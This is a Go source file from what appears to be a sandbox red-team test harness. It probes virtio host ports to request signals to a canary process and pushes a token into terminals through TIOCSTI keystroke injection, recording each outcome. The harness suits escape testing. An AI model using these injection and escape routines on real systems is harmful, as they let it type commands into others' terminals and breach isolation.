package payload

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/brainst0rm/sandbox-redteam/internal/attack"
	"github.com/brainst0rm/sandbox-redteam/internal/wire"
)

// virtioPorts lists the character devices of virtio ports other than our own.
func virtioPorts(own string) []string {
	names, _ := filepath.Glob("/sys/class/virtio-ports/*/name")
	var out []string
	for _, file := range names {
		b, err := os.ReadFile(file)
		if err != nil || strings.TrimSpace(string(b)) == own {
			continue
		}
		out = append(out, "/dev/"+filepath.Base(filepath.Dir(file)))
	}
	return out
}

// ports asks every host port to signal the canary.
func (j job) ports(found []string) {
	c, ok := j.p.Canaries[attack.ProcHostPort]
	if !ok {
		return
	}
	for _, port := range append(j.p.Ports, found...) {
		err := ask(port, c.PID)
		a := wire.Outcome(attack.ProcHostPort, "write", filepath.Base(port), err)
		if err == nil {
			// Sent is not done: whether somebody obeys is for the host to say.
			a.Result, a.Detail = wire.ResultReached, "request sent"
		}
		j.record(a)
	}
	if len(found)+len(j.p.Ports) == 0 {
		j.record(wire.Attempt{Case: attack.ProcHostPort, Op: "list", Result: wire.ResultAbsent, Detail: "no port but our own"})
	}
}

func ask(port string, pid int) error {
	f, err := os.OpenFile(port, os.O_WRONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = fmt.Fprintf(f, attack.SignalLine, pid)
	return err
}

// tty pushes the token back into a terminal, as if somebody had typed it.
func (j job) tty(ctx context.Context) {
	if j.p.TTYToken == "" {
		return
	}
	if j.p.TTY == "" {
		j.try(attack.ProcTTY, "TIOCSTI", "/dev/tty", nil, push("/dev/tty", j.p.TTYToken))
		return
	}
	// A terminal that was handed in becomes that of a child first: pushing back
	// is for the controlling terminal only.
	j.try(attack.ProcTTY, "TIOCSTI", "terminal", nil, pushAsChild(ctx, j.p.TTY, j.p.TTYToken))
}

func push(tty, text string) error {
	f, err := os.OpenFile(tty, os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	for i := range len(text) {
		c := text[i]
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, f.Fd(), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); errno != 0 {
			return errno
		}
	}
	return nil
}

// pushAsChild starts this tool again with tty as its controlling terminal.
func pushAsChild(ctx context.Context, tty, text string) error {
	f, err := os.OpenFile(tty, os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	cmd, err := self(ctx, "bsm-push", attack.ProcEscapeParams{Child: attack.ChildPush, TTYToken: text})
	if err != nil {
		return err
	}
	cmd.ExtraFiles = []*os.File{f}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 3}
	err = cmd.Run()
	if exit := (*exec.ExitError)(nil); asExit(err, &exit) && exit.ExitCode() > 0 {
		return syscall.Errno(exit.ExitCode())
	}
	return err
}

// openPTY makes a terminal of our own.
func openPTY() (master *os.File, slave string, err error) {
	master, err = os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return nil, "", err
	}
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err == nil {
		err = unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0)
	}
	if err != nil {
		_ = master.Close()
		return nil, "", err
	}
	return master, "/dev/pts/" + strconv.Itoa(n), nil
}
